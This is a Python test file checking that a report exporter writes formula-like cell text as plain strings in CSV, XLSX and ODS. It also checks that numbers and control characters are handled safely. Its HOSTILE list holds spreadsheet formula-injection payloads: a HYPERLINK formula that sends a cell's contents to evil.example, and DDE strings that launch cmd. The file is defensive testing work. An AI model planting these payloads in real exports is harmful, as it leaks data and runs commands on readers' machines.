"""Report files keep hostile text as text: a cell that starts like a formula is never
one when the file is opened (CSV, XLSX, ODS), numbers stay numbers, and characters
no spreadsheet can hold never turn an export into an error."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from odf.namespaces import TABLENS
from odf.opendocument import load as load_ods
from odf.table import Table as OdsTable
from odf.table import TableCell, TableRow
from openpyxl import load_workbook

from yankao.core.exports import FORMATS, fonts
from yankao.core.exports.cells import csv_text, formula_like
from yankao.core.reporting.table import Table

pytestmark = pytest.mark.hostile

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&B3,"詳見")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("https://evil.example")',
    "＋1",
    "－1",
    "＠SUM(1)",
]


def _read_back(text: str) -> str:
    """The text as an XML file gives it back: a carriage return is read as a line feed."""
    return text.replace("\r", "\n")


def _table(label: str) -> Table:
    return Table(
        title="陳情績效報告",
        period="115年10月",
        headings=["機關", "收件", "準時率（%）"],
        rows=[[label, -3, Decimal("-66.7")], ["合計", 3, None]],
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_starts_like_a_formula_is_written_after_an_apostrophe(text):
    content = FORMATS["csv"].write(_table(text)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows[2] == [f"'{text}", "-3", "-66.7"]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_xlsx_cell_that_starts_like_a_formula_is_a_string_with_a_quote_prefix(text):
    content = FORMATS["xlsx"].write(_table(text))
    sheet = load_workbook(io.BytesIO(content)).active
    label, received, rate = sheet[3]
    assert (label.value, label.data_type, label.quotePrefix) == (_read_back(text), "s", True)
    assert (received.value, received.data_type) == (-3, "n")
    assert (rate.value, rate.data_type) == (-66.7, "n")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def _ods_cells(content: bytes) -> list[list[TableCell]]:
    sheet = load_ods(io.BytesIO(content)).spreadsheet.getElementsByType(OdsTable)[0]
    return [row.getElementsByType(TableCell) for row in sheet.getElementsByType(TableRow)]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_ods_cell_that_starts_like_a_formula_is_a_string_and_never_a_formula(text):
    label, received, rate = _ods_cells(FORMATS["ods"].write(_table(text)))[2]
    assert label.getAttribute("valuetype") == "string"
    assert str(label) == _read_back(text)
    assert (TABLENS, "formula") not in label.attributes
    assert received.getAttribute("valuetype") == "float" and received.getAttribute("value") == "-3"
    assert rate.getAttribute("value") == "-66.7"


def test_ordinary_text_and_negative_numbers_are_left_as_they_are():
    assert not formula_like("工務局") and not formula_like("") and not formula_like("1-2")
    assert csv_text("工務局") == "工務局"
    content = FORMATS["csv"].write(_table("工務局")).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content)))[2] == ["工務局", "-3", "-66.7"]
    label = load_workbook(io.BytesIO(FORMATS["xlsx"].write(_table("工務局")))).active["A3"]
    assert (label.value, label.quotePrefix) == ("工務局", False)


def test_text_like_an_error_code_stays_text_in_xlsx():
    label = load_workbook(io.BytesIO(FORMATS["xlsx"].write(_table("#N/A")))).active["A3"]
    assert (label.value, label.data_type) == ("#N/A", "s")


@pytest.mark.parametrize("name", ["csv", "xlsx", "ods", "pdf"])
def test_control_characters_in_a_name_do_not_break_any_format(name):
    if name == "pdf":
        try:
            fonts.cjk_font()
        except fonts.FontMissing:
            pytest.skip("no CJK font for the PDF")
    content = FORMATS[name].write(_table("工務局\x01\x0b\x1f養護\ufffe工程處"))
    assert content
    if name == "xlsx":
        assert load_workbook(io.BytesIO(content)).active["A3"].value == "工務局養護工程處"
    if name == "ods":
        assert str(_ods_cells(content)[2][0]) == "工務局養護工程處"
